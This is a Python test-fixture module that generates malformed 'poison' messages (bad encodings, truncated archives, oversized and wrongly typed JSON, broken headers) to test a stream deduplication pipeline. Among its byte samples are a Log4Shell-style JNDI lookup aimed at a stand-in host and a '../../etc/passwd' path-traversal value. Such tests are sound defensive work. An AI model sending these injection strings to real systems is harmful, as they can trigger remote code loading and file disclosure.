"""Messages that no worker of ours would send, by name: each is a good message of a topic with one thing wrong in it."""

from __future__ import annotations

import gzip
import json
import random
from typing import Any, NamedTuple

import orjson
import zstandard

from streams.dedup.notice import HEADER

Headers = tuple[tuple[str, bytes | None], ...]
_ARABIC = "نص عربي قصير"
_NOISE = random.Random(7).randbytes(4_096)
# Near what the broker takes, and beyond what a page or an article may have.
HUGE_BYTES = 4 * 1024 * 1024 - 64 * 1024


class Poison(NamedTuple):
    """One kind of a bad message."""

    name: str
    key: bytes | None
    value: bytes | None
    headers: Headers
    timestamp_ms: int | None = None


BYTES: dict[str, bytes | None] = {
    "tombstone": None,
    "no byte": b"",
    "a space": b" ",
    "a line end": b"\r\n",
    "NUL": b"\0",
    "a thousand NULs": b"\0" * 1_000,
    "all ones": b"\xff" * 64,
    "noise": _NOISE,
    "UTF-16": _ARABIC.encode("utf-16"),
    "Windows-1256": _ARABIC.encode("cp1256"),
    "ISO 8859-6": _ARABIC.encode("iso8859-6"),
    "a cut character": _ARABIC.encode()[:-1],
    "a byte-order mark": b"\xef\xbb\xbf",
    "zstd": zstandard.compress(b'{"a":1}'),
    "zstd cut short": zstandard.compress(_NOISE)[:-9],
    "gzip": gzip.compress(b'{"a":1}', mtime=0),
    "gzip cut short": gzip.compress(_NOISE, mtime=0)[:-9],
    "an image": b"\x89PNG\r\n\x1a\n" + _NOISE[:64],
    "Avro": b"Obj\x01" + _NOISE[:64],
    "Protocol Buffers": b"\x08\x96\x01\x12\x07testing",
    "a schema registry's frame": b"\0\0\0\0\x07" + b"\x02ab",
    "a pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00}\x94.",
    "XML": b"<?xml version='1.0'?><page/>",
    "HTML": b"<!doctype html><title>x</title>",
    "CSV": b"id,text\n1,x\n",
    "YAML": b"id: 1\ntext: x\n",
    "text": _ARABIC.encode(),
    "null": b"null",
    "true": b"true",
    "a number": b"7",
    "a number beyond all": b"9" * 5_000,
    "an exponent beyond all": b"1e999999",
    "NaN": b"NaN",
    "a string": b'"x"',
    "a lone surrogate": b'"\\ud800"',
    "an empty list": b"[]",
    "a list of an object": b"[{}]",
    "an empty object": b"{}",
    "an object cut short": b'{"id":"0f',
    "an open brace": b"{",
    "a trailing comma": b'{"id":1,}',
    "single quotes": b"{'id':'x'}",
    "names without quotes": b"{id:1}",
    "a comment": b"{} // x",
    "two objects": b"{}{}",
    "two lines": b"{}\n{}",
    "a name of NUL": b'{"\\u0000":1}',
    "lists in lists": b"[" * 100_000,
    "lists closed": b"[" * 50_000 + b"]" * 50_000,
    "objects in objects": b'{"a":' * 50_000,
    "a list of a million": b"[" + b"0," * 999_999 + b"0]",
    "huge": b"x" * HUGE_BYTES,
    "huge and open": b'{"text":"' + b"x" * HUGE_BYTES,
    "huge and closed": b'{"text":"' + b"x" * (HUGE_BYTES - 16) + b'"}',
    "template text": b"${jndi:ldap://a.example/x}",
    "a path": b"../../etc/passwd",
}
# By field, what it must not be; of pages, articles and verdicts alike where they have such a field.
WRONG: dict[str, tuple[Any, ...]] = {
    "id": (7, "x", [], {}, True, "0" * 31, "Z" * 32),
    "text": (7, [], {}, True, None),
    "body": (7, [], {}, True),
    "fetched_at": (7, "yesterday", "2026-13-01T00:00:00Z", "", [], None),
    "title": (7, [], {}),
    "links": ("x", [[3]], [[5, 1, "u"]], [[-1, 2, "u"]], [["a", "b", "u"]]),
    "role": ("other", 7, None),
    "teasers": ([{}], "x", [7]),
    "segments": ([{"start": 3}], [[1, 2]], [{"start": 9, "end": 2, "kind": "body"}]),
    "v": ("x", [], 10**30),
}
WRONG_VERDICT: dict[str, tuple[Any, ...]] = {
    "kind": ("odd", 7, None, []),
    "doc_id": ("x", 7, None, "Z" * 32),
    "version": (-1, "x", 10**30, 1.5, None),
    "month": ("2026-13", "", "2026-1", 7, "../x", None),
    "first_seen": ("now", 7, None),
    "jaccard": ("x", -1, 2),
    "word_count": (-1, "x"),
}


def poisons(key: bytes, value: bytes, notice: bytes, verdict: bytes, origin: bytes) -> list[Poison]:
    """Every kind, made from a good message and the headers that it has on its way."""
    good: Headers = (("notice", notice), ("verdict", verdict), ("origin", origin))
    found = [Poison(f"value: {name}", key, data, good) for name, data in BYTES.items()]
    fields = orjson.loads(value)
    for name, wrongs in WRONG.items():
        for wrong in wrongs:
            found.append(Poison(f"{name}: {wrong!r:.40}", key, _json(fields | {name: wrong}), good))
        found.append(Poison(f"{name}: absent", key, _json({n: v for n, v in fields.items() if n != name}), good))
    told = orjson.loads(verdict)
    for name, wrongs in WRONG_VERDICT.items():
        for wrong in wrongs:
            headers = _with(good, "verdict", _json(told | {name: wrong}))
            found.append(Poison(f"verdict {name}: {wrong!r:.40}", key, value, headers))
    for name, data in BYTES.items():
        if data is None or len(data) < 1_000:
            for header in ("verdict", "notice", "origin"):
                found.append(Poison(f"{header} header: {name}", key, value, _with(good, header, data)))
    found += [Poison(f"notice: {name}", key, value, _with(good, "notice", data)) for name, data in _notices(notice).items()]
    return found + _envelopes(key, value, good)


def _notices(notice: bytes) -> dict[str, bytes]:
    """Notices with one field that cannot be."""
    names = ("version", "role", "flags", "id", "page", "time", "partition", "offset", "month")
    fields = dict(zip(names, HEADER.unpack_from(notice)[:9], strict=True))
    rest = HEADER.unpack_from(notice)[9:]
    changed: dict[str, tuple[Any, ...]] = {
        "version": (0, 3, 255),
        "role": (9, 255),
        "flags": (4, 255),
        "id": (bytes(16),),
        "time": (-1, 2**62),
        "partition": (-1,),
        "offset": (-1,),
        "month": (2**31,),
    }
    found = {
        f"{name} {value!r:.20}": HEADER.pack(*(fields | {name: value}).values(), *rest) + notice[HEADER.size :]
        for name, values in changed.items()
        for value in values
    }
    return found | {"cut short": notice[:-7], "longer": notice + b"xyz", "its head alone": notice[: HEADER.size]}


def _envelopes(key: bytes, value: bytes, good: Headers) -> list[Poison]:
    """Good values in a message that is wrong around them."""
    return [
        Poison("no key", None, value, good),
        Poison("no key and no value", None, None, good),
        Poison("an empty key", b"", value, good),
        Poison("a short key", key[:7], value, good),
        Poison("a long key", key * 1_000, value, good),
        Poison("another's key", bytes(16), value, good),
        Poison("a key in hexadecimal", key.hex().encode(), value, good),
        Poison("no headers", key, value, ()),
        Poison("a header without a name", key, value, (("", b"x"), ("notice", None), ("verdict", None))),
        Poison("a thousand headers", key, value, tuple((f"h{n}", b"x") for n in range(1_000))),
        Poison("a heavy header", key, value, (("notice", bytes(1_500_000)), ("verdict", bytes(1_500_000)))),
        Poison("attempts that cannot be", key, b"{", (("attempts", b"-1"), ("appended-ms", b"9" * 40))),
        Poison("headers of a dead letter", key, b"{", (("dead-letter-topic", b"x"), ("dead-letter-stage", b"\xff"))),
        Poison("the beginning of time", key, b"{", (), 0),
        Poison("a time far ahead", key, b"{", (), 2**45),
    ]


def _with(headers: Headers, name: str, data: bytes | None) -> Headers:
    return tuple((known, data if known == name else before) for known, before in headers)


def _json(fields: Any) -> bytes:
    try:
        return orjson.dumps(fields)
    except TypeError:  # a number of more than 64 bits
        return json.dumps(fields).encode()
